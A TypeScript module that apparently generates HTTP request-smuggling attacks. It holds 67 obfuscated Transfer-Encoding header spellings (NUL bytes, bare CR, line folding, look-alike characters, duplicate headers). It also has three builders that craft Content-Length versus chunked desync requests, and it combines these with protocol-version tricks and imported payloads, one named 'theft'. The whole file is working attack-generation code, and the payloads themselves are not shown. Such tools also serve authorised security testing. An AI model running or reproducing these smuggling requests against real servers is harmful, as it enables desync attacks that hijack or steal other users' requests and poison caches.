import { type Aim, chunked, type Mutation, payloads, post } from './mutation.ts'

/** How a Transfer-Encoding can be written so that one reader sees it and another does not. */
const spellings: readonly (readonly [name: string, line: string])[] = [
  ['plain', 'Transfer-Encoding: chunked'],
  ['no space', 'Transfer-Encoding:chunked'],
  ['two spaces', 'Transfer-Encoding:  chunked'],
  ['tab before', 'Transfer-Encoding:\tchunked'],
  ['space after', 'Transfer-Encoding: chunked '],
  ['tab after', 'Transfer-Encoding: chunked\t'],
  ['space before colon', 'Transfer-Encoding : chunked'],
  ['tab before colon', 'Transfer-Encoding\t: chunked'],
  ['space before name', ' Transfer-Encoding: chunked'],
  ['tab before name', '\tTransfer-Encoding: chunked'],
  ['upper-case value', 'Transfer-Encoding: CHUNKED'],
  ['mixed-case value', 'Transfer-Encoding: chUnKed'],
  ['lower-case name', 'transfer-encoding: chunked'],
  ['upper-case name', 'TRANSFER-ENCODING: chunked'],
  ['folded by space', 'Transfer-Encoding:\r\n chunked'],
  ['folded by tab', 'Transfer-Encoding:\r\n\tchunked'],
  ['folded by bare LF', 'Transfer-Encoding:\n chunked'],
  ['folded, then identity', 'Transfer-Encoding: chunked\r\n , identity'],
  ['vertical tab before', 'Transfer-Encoding: \vchunked'],
  ['vertical tab after', 'Transfer-Encoding: chunked\v'],
  ['form feed before', 'Transfer-Encoding: \fchunked'],
  ['NUL before', 'Transfer-Encoding: \0chunked'],
  ['NUL after', 'Transfer-Encoding: chunked\0'],
  ['NUL in the name', 'Transfer-\0Encoding: chunked'],
  ['bare CR before', 'Transfer-Encoding: \rchunked'],
  ['bare CR after', 'Transfer-Encoding: chunked\r'],
  ['bare CR before the name', 'X: y\r\rTransfer-Encoding: chunked'],
  ['chunked, identity', 'Transfer-Encoding: chunked, identity'],
  ['identity, chunked', 'Transfer-Encoding: identity, chunked'],
  ['identity', 'Transfer-Encoding: identity'],
  ['chunked, chunked', 'Transfer-Encoding: chunked, chunked'],
  ['comma after', 'Transfer-Encoding: chunked,'],
  ['comma before', 'Transfer-Encoding: ,chunked'],
  ['gzip, chunked', 'Transfer-Encoding: gzip, chunked'],
  ['chunked, gzip', 'Transfer-Encoding: chunked, gzip'],
  ['deflate', 'Transfer-Encoding: deflate'],
  ['xchunked', 'Transfer-Encoding: xchunked'],
  ['chunkedx', 'Transfer-Encoding: chunkedx'],
  ['x chunked', 'Transfer-Encoding: x chunked'],
  ['chunked x', 'Transfer-Encoding: chunked x'],
  ['chunk', 'Transfer-Encoding: chunk'],
  ['with a weight', 'Transfer-Encoding: chunked;q=0.5'],
  ['with a parameter', 'Transfer-Encoding: chunked; a=b'],
  ['in double quotes', 'Transfer-Encoding: "chunked"'],
  ['in single quotes', "Transfer-Encoding: 'chunked'"],
  ['next line after', 'Transfer-Encoding: chunked\x85'],
  ['no-break space before', 'Transfer-Encoding: \xa0chunked'],
  ['no-break space before colon', 'Transfer-Encoding\xa0: chunked'],
  ['Kelvin sign for k', 'Transfer-Encoding: chun\xe2\x84\xaaed'],
  ['high bit in the name', 'Transfer-Encodin\xe7: chunked'],
  ['empty', 'Transfer-Encoding:'],
  ['empty, then chunked', 'Transfer-Encoding:\r\nTransfer-Encoding: chunked'],
  ['twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
  ['identity above', 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked'],
  ['identity below', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'],
  ['nonsense below', 'Transfer-Encoding: chunked\r\nTransfer-encoding: x'],
  ['behind a bare LF', 'X: y\nTransfer-Encoding: chunked'],
  ['behind a bare CR', 'X: y\rTransfer-Encoding: chunked'],
  ['behind LF CR', 'X: y\n\rTransfer-Encoding: chunked'],
  ['underscore', 'Transfer_Encoding: chunked'],
  ['dot', 'Transfer.Encoding: chunked'],
  ['colon twice', 'Transfer-Encoding:: chunked'],
  ['no colon', 'Transfer-Encoding chunked'],
  ['named by Connection', 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked'],
  ['length named by Connection', 'Connection: Content-Length\r\nTransfer-Encoding: chunked'],
  ['only as TE', 'TE: chunked'],
  ['only as Content-Encoding', 'Content-Encoding: chunked'],
]

const shape = {
  /**
   * A reader that counts treats the smuggled request as content; one that reads chunks does not.
   */
  counted: (line: string, payload: Payload) => (aim: Aim) => {
    const body = `0\r\n\r\n${payload(aim)}`
    return post(aim, `Content-Length: ${body.length}`, line) + body
  },
  /** A reader of chunks treats it as content; one that counts stops before it. */
  chunked: (line: string, payload: Payload) => (aim: Aim) => {
    const stolen = payload(aim)
    const size = `${stolen.length.toString(16)}\r\n`
    return `${post(aim, line, `Content-Length: ${size.length}`)}${size}${stolen}\r\n0\r\n\r\n`
  },
  /** A reader that does not see the coding sees no content. */
  alone: (line: string, payload: Payload) => (aim: Aim) =>
    post(aim, line) + chunked('x') + payload(aim),
} as const
type Payload = (aim: Aim) => string

const kinds = Object.keys(shape) as (keyof typeof shape)[]
const named = Object.entries(payloads)

/** Every spelling in every shape; the three payloads take turns. */
export const codingMutations: readonly Mutation[] = spellings.flatMap(([name, line], row) =>
  kinds.map((kind, column) => {
    const [payloadName, payload] = named[(row + column) % named.length] as (typeof named)[0]
    return { name: `coding ${name}, ${kind}, ${payloadName}`, bytes: shape[kind](line, payload) }
  }),
)

/** The two framing fields together in versions and places that readers treat apart. */
export const versionMutations: readonly Mutation[] = Object.entries(shape).flatMap(
  ([kind, build]) =>
    ['1.0', '0.9', '1.2', '2.0', '1.1x', ' 1.1', '01.1'].map((version) => ({
      name: `version ${version}, ${kind}`,
      bytes: (aim: Aim) =>
        build(
          'Transfer-Encoding: chunked',
          payloads.theft,
        )(aim).replace('HTTP/1.1', () => `HTTP/${version}`),
    })),
)
